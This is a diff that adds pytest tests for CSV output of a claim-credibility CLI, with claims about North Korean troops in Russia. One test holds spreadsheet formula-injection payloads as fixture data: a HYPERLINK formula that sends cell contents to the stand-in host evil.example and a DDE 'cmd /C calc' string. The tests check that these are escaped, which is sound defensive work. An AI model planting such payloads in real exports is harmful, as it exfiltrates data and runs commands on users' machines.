@@ -160,3 +160,72 @@ def test_the_cli_runs_as_a_module() -> None:
                           cwd=Path(__file__).resolve().parents[2])
     assert done.returncode == 0, done.stderr
     assert "nk-troops-in-russia" in done.stdout
+
+
+def _csv(out: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(out)))
+
+
+def test_corroborate_csv_has_one_row_per_claim_with_groups_and_hedges() -> None:
+    code, out, _ = run("corroborate", "--format", "csv")
+    assert code == 0
+    rows = {r["id"]: r for r in _csv(out)}
+    assert len(rows) == 27
+    troops = rows["nk-troops-in-russia"]
+    assert (troops["status"], troops["independent_groups"], troops["contested"]) == (
+        "corroborated", "3", "False")
+    assert [g.split(" (")[0] for g in troops["affirmed_by"].split("; ")] == [
+        "South Korea", "Ukraine", "United States"]
+    assert troops["hedged_by"] == "Russia (Vladimir Putin)"
+    assert (troops["credibility"], troops["stix_confidence"]) == ("1", "90")
+    war = rows["nk-sent-troops-to-assist-war-on-ukraine"]
+    assert (war["status"], war["contested"], war["contested_by"]) == (
+        "unsupported", "True", "North Korea")
+    # The same filters as the table: k and --status.
+    code, out, _ = run("corroborate", "--format", "csv", "-k", "3", "--status", "corroborated")
+    assert [r["id"] for r in _csv(out)] == ["nk-troops-in-russia"]
+
+
+def test_grades_csv_lists_actors_then_claims() -> None:
+    code, out, _ = run("grades", "--format", "csv")
+    assert code == 0
+    rows = _csv(out)
+    kinds = [r["graded"] for r in rows]
+    assert kinds == sorted(kinds) and set(kinds) == {"actor", "claim"}
+    claims = {r["id"]: r for r in rows if r["graded"] == "claim"}
+    assert claims["nk-troops-in-russia"]["grade"] == "1"
+    assert claims["nk-troops-in-russia"]["reason"].startswith("Credibility 1")
+    putin = next(r for r in rows if r["id"] == "putin")
+    assert (putin["grade"], putin["group"]) == ("F", "Russia")
+
+
+def test_csv_text_that_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
+    case = tmp_path / "hostile.yaml"
+    case.write_text(
+        "format: cred-kg/1\n"
+        "document: {id: doc-h, title: Hostile, publisher: outlet, date: 2024-10-24}\n"
+        "actors:\n"
+        "  - {id: outlet, name: The Outlet, kind: NewsOutlet}\n"
+        "  - {id: gov, name: '=HYPERLINK(\"http://evil.example/?\"&A1)', kind: State}\n"
+        "claims:\n"
+        "  - {id: c-h, text: '@SUM(1+1)*cmd|'' /C calc''!A0'}\n"
+        "statements:\n"
+        "  - {actor: gov, claim: c-h, stance: affirms, relay: [outlet]}\n",
+        encoding="utf-8",
+    )
+    code, out, err = run("corroborate", "--no-seed", "--format", "csv", str(case))
+    assert code == 0, err
+    (row,) = _csv(out)
+    assert row["text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["affirmed_by"].startswith("'=HYPERLINK(")
+    code, out, _ = run("grades", "--no-seed", "--format", "csv", str(case))
+    cells = [cell for r in _csv(out) for cell in r.values()]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
+def test_explain_has_no_csv() -> None:
+    code, _, err = run("explain", "nk-troops-in-russia", "--format", "csv")
+    assert code == 2 and "expected table or json" in err
